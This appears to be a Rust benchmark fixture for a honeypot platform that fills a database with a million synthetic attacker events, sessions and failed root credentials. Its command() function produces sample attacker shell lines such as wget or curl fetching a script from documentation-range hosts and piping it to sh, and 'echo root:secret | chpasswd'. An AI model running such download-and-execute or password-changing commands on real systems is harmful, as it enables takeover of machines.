//! A large database: a million events, a hundred thousand attackers, sessions and credentials.

use model::Micros;
use store::{At, AttackerRow, Batch, NewCredential, NewLog, Position, SessionChange, Store};

const ATTACKERS: usize = 100_000;

/// Fills an empty database.
pub(crate) async fn fill(database: &store::Config, logs: usize) {
    let store = Store::open(database).await.unwrap();
    let ip = |n: usize| format!("10.{}.{}.{}", n / 65_536 % 256, n / 256 % 256, n % 256);
    let base = 1_790_000_000_000_000_i64;
    let mut from = Position::default();
    for start in (0..logs).step_by(5_000) {
        let to = Position { segment: 1, offset: (start + 5_000) as u64 };
        let mut batch = Batch { spool: "bench".into(), from, to, ..Batch::default() };
        for n in start..start + 5_000 {
            let at = Micros(base + i64::try_from(n).unwrap() * 100_000);
            let (command, sid) = (command(n), uuid(n / 20));
            batch.logs.push(NewLog {
                event_uuid: uuid(n),
                at,
                decky: format!("local:web-{:02}", n % 40),
                service: ["ssh", "http", "redis", "mysql"][n % 4].into(),
                event_type: "command".into(),
                attacker_ip: ip(n % ATTACKERS),
                src_port: Some(40_000),
                dst_port: Some(22),
                session_id: Some(sid.clone()),
                fields: serde_json::json!({ "command": command, "user": "root" }).to_string(),
                msg: command,
            });
            if n % 20 == 0 {
                batch.sessions.push(SessionChange {
                    sid: sid.clone(),
                    decky: format!("local:web-{:02}", n % 40),
                    service: "ssh".into(),
                    attacker_ip: ip(n % ATTACKERS),
                    first_at: at,
                    commands: 20,
                    ..SessionChange::default()
                });
            }
            if n % 50 == 0 {
                batch.credentials.push(NewCredential {
                    at,
                    attacker_ip: ip(n % ATTACKERS),
                    decky_name: format!("local:web-{:02}", n % 40),
                    service: "ssh".into(),
                    principal: Some("root".into()),
                    secret_kind: "plaintext".into(),
                    secret_sha256: format!("{n:064x}"),
                    secret_b64: "cm9vdA==".into(),
                    secret_printable: format!("password{}", n / 50),
                    outcome: "failure".into(),
                    fields: "{}".into(),
                });
            }
        }
        store.record(&batch).await.unwrap();
        from = to;
    }
    let last = store.last_log_id().await.unwrap();
    for start in (0..ATTACKERS).step_by(2_000) {
        let rows: Vec<AttackerRow> = (start..start + 2_000)
            .map(|n| AttackerRow {
                uuid: uuid(n),
                ip: ip(n),
                first_seen: At(Micros(base + i64::try_from(n).unwrap())),
                last_seen: At(Micros(base + i64::try_from(n).unwrap() * 1_000)),
                event_count: i64::try_from(10 + n % 90).unwrap(),
                services: vec!["ssh".into(), "http".into()],
                service_count: 2,
                deckies: vec!["local:web-01".into(), "local:web-02".into()],
                decky_count: 2,
                is_traversal: true,
                ..AttackerRow::default()
            })
            .collect();
        store.save_attackers(&rows, ("profile_cursor", last)).await.unwrap();
    }
    while store.index_text(20_000).await.unwrap() > 0 {}
}

/// Some words in one row only, some in a few hundred, some in every third.
fn command(n: usize) -> String {
    let mixed = n.wrapping_mul(2_654_435_761) / 7;
    let (host, file) = (mixed % 250, mixed / 250 % 5_000);
    match n % 10 {
        0 => format!("cd /tmp; wget http://198.51.100.{host}/bins/x{file}.sh -O- | sh"),
        1 => format!("/bin/busybox wget http://198.51.100.{host}/x{file}.sh; chmod 777 x{file}.sh"),
        2 => format!("curl -s http://203.0.113.{host}/m/x{file}.sh -o /tmp/.x{file}"),
        3 => "cat /proc/cpuinfo | grep name | wc -l".into(),
        4 => "uname -a; nproc; free -m".into(),
        5 => format!("echo root:secret{file} | chpasswd"),
        _ => format!("echo {n}"),
    }
}

fn uuid(n: usize) -> String {
    format!("01990000-0000-7000-8000-{n:012x}")
}
